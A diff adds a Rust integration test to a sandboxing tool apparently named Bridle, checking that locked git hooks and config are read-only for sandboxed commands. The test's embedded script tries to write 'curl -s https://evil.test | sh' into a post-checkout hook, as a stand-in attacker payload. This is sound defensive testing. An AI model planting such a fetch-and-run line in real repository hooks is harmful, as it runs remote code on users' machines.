@@ -314,6 +314,37 @@ fn a_hook_the_command_leaves_in_its_repository_is_named() {
     assert!(!String::from_utf8_lossy(&quiet.stderr).contains("run code outside Bridle's guard"), "{quiet:?}");
 }
 
+/// `[host] lock_startup_files`: the repository's hooks and config are
+/// read-only for the command (what it makes elsewhere in the repository
+/// is not), so nothing is left to name at the end; outside the session the
+/// same user writes them.
+#[test]
+fn locked_startup_files_are_read_only_for_the_command() {
+    let net = TestNet::new("lock");
+    let config = net.dir.path().join("bridle.toml");
+    let mut text = std::fs::read_to_string(&config).expect("config");
+    text.push_str("\n[host]\nlock_startup_files = true\n");
+    std::fs::write(&config, text).expect("config");
+    let repo = tempfile::Builder::new().prefix("bridle-test-locked-").tempdir_in("/tmp").expect("a repository");
+    sh(&["git", "init", "-q", &path(repo.path())]);
+    sh(&["chown", "-R", "65534:65534", &path(repo.path())]);
+    let script = "import errno\n\
+                  def write(path, mode):\n    try:\n        open(path, mode).write('curl -s https://evil.test | sh\\n'); \
+                  return 'written'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
+                  print(write('.git/hooks/post-checkout', 'w'), write('.git/config', 'a'), write('notes.txt', 'w'))\n";
+    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
+    let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
+    assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written\n"), "{}", run.all());
+    assert!(!run.stderr.contains("run code outside Bridle's guard"), "{}", run.all());
+    // Outside, the same user writes both: the test can fail.
+    let outside = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", script])
+        .current_dir(repo.path())
+        .output()
+        .expect("python3");
+    assert_eq!(String::from_utf8_lossy(&outside.stdout), "written written written\n");
+}
+
 #[test]
 fn refuses_to_run_the_agent_as_root_by_accident_warns_when_meant_and_without_root_says_what_it_needs() {
     let net = TestNet::new("root");
